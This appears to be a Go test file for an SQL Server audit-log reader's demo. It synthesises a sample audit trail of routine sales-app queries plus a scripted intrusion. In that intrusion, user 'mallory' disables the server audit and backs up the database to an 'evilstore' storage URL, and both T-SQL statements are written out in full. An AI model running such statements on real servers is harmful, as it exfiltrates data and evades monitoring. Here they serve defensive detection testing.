package demo

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/xel"
	"github.com/xelwatch/xelwatch/xel/audit"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

var update = flag.Bool("update", false, "rewrite testdata/sample.xel")

// TestSampleIsCurrent checks that the embedded sample is what
// synthesizeSample makes, so the file cannot drift from its generator.
func TestSampleIsCurrent(t *testing.T) {
	got, err := synthesizeSample()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", "sample.xel")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("synthesizeSample() (%d bytes) differs from %s (%d bytes): run go test ./handler/internal/demo -update", len(got), path, len(want))
	}
	if !bytes.Equal(sampleXEL, want) {
		t.Fatalf("embedded sample differs from %s: rebuild", path)
	}
}

func TestSampleDecodes(t *testing.T) {
	t.Parallel()
	xr, err := xel.NewReader(bytes.NewReader(sampleXEL), nil)
	if err != nil {
		t.Fatal(err)
	}
	ar := audit.NewReader(xr, "sample.xel", &audit.ReaderOptions{FlushIncomplete: true})
	actions := map[string]int{}
	n := 0
	for rec, err := range ar.All() {
		if err != nil {
			t.Fatal(err)
		}
		n++
		actions[rec.ActionID]++
	}
	if n != sampleRecords || n != len(sampleEvents()) {
		t.Errorf("records = %d, want sampleRecords = %d = len(sampleEvents()) = %d", n, sampleRecords, len(sampleEvents()))
	}
	if got := Sample(); !bytes.Equal(got, sampleXEL) || len(got) > 0 && &got[0] == &sampleXEL[0] {
		t.Error("Sample() is not a copy of the embedded sample")
	}
	for _, a := range []string{"LGIS", "BCM", "AL", "BA"} {
		if actions[a] == 0 {
			t.Errorf("no %s record in the sample", a)
		}
	}
}

// synthesizeSample makes the demo's audit file with xeltest: 4 KiB buffers,
// two partitions (as a multi-core server writes them).
func synthesizeSample() ([]byte, error) {
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096, Partitions: 2})
	if err != nil {
		return nil, err
	}
	for _, a := range sampleEvents() {
		if err := w.WriteAudit(a); err != nil {
			return nil, err
		}
	}
	if err := w.Flush(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

func sampleEvents() []xeltest.AuditEvent {
	at := func(s int) time.Time { return SampleStart.Add(time.Duration(s) * time.Second) }
	base := func(s int, action, class, who, ip, app, stmt string) xeltest.AuditEvent {
		return xeltest.AuditEvent{
			EventTime: at(s), ActionID: action, ClassType: class, Succeeded: true, SessionID: 60,
			ServerPrincipalName: who, SessionServerPrincipalName: who, DatabasePrincipalName: "dbo",
			ServerInstanceName: "demo-sqlsrv", DatabaseName: "salesdb", SchemaName: "dbo",
			Statement: stmt, ClientIP: ip, ApplicationName: app, HostName: "web-01",
		}
	}
	var out []xeltest.AuditEvent
	// Routine: the sales application logs in and queries.
	for i := range 30 {
		s := i * 20
		if i%10 == 0 {
			out = append(out, base(s, "LGIS", "LX", "sales_app", "10.0.0.5", "SalesApp", ""))
			continue
		}
		e := base(s, "BCM", "DB", "sales_app", "10.0.0.5", "SalesApp",
			fmt.Sprintf("SELECT TOP (50) o.OrderId, o.Total FROM dbo.Orders AS o WHERE o.CustomerId = %d ORDER BY o.OrderDate DESC", 1000+i))
		e.ObjectName, e.ResponseRows = "Orders", int64(i%50)
		out = append(out, e)
	}
	// The intruder: a login from an unknown address with sqlcmd,
	// the server audit switched off, a COPY_ONLY backup to a foreign
	// storage account.
	out = append(out,
		base(620, "LGIS", "LX", "mallory", "203.0.113.66", "sqlcmd", ""),
		func() xeltest.AuditEvent {
			e := base(680, "AL", "A", "mallory", "203.0.113.66", "sqlcmd", "ALTER SERVER AUDIT [SqlDbAuditing_ServerAudit] WITH (STATE = OFF)")
			e.ObjectName = "SqlDbAuditing_ServerAudit"
			return e
		}(),
		func() xeltest.AuditEvent {
			e := base(745, "BA", "DB", "mallory", "203.0.113.66", "sqlcmd",
				"BACKUP DATABASE [salesdb] TO URL = 'https://evilstore.blob.core.windows.net/loot/salesdb.bak' WITH COPY_ONLY, COMPRESSION")
			e.ObjectName = "salesdb"
			return e
		}(),
	)
	// Routine again.
	for i := range 8 {
		e := base(800+i*15, "BCM", "DB", "sales_app", "10.0.0.5", "SalesApp",
			fmt.Sprintf("UPDATE dbo.Orders SET Status = 'shipped' WHERE OrderId = %d", 5000+i))
		e.ObjectName, e.AffectedRows = "Orders", 1
		out = append(out, e)
	}
	return out
}
